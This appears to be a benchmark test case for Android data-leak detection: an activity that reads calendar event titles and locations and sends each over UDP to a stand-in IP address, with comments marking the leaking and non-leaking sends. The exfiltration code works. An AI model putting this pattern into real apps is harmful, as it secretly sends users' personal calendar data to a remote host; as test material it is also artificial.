package ways;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CalendarContract;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.text.MessageFormat;

/** Appointments, in datagrams. */
public class Agenda extends Activity {
    private static final String[] COLUMNS = {CalendarContract.Events.TITLE, CalendarContract.Events.EVENT_LOCATION};

    @Override
    protected void onResume() {
        super.onResume();
        try (Cursor events = getContentResolver().query(CalendarContract.Events.CONTENT_URI, COLUMNS, null, null, null);
                DatagramSocket socket = new DatagramSocket()) {
            InetAddress host = InetAddress.getByName("203.0.113.23");
            while (events.moveToNext()) {
                byte[] line = MessageFormat.format("{0}|{1}", events.getString(0), events.getString(1)).getBytes();
                socket.send(new DatagramPacket(line, line.length, host, 5353)); // leak
            }
            byte[] end = MessageFormat.format("{0}|{1}", "end", "end").getBytes();
            socket.send(new DatagramPacket(end, end.length, host, 5353)); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
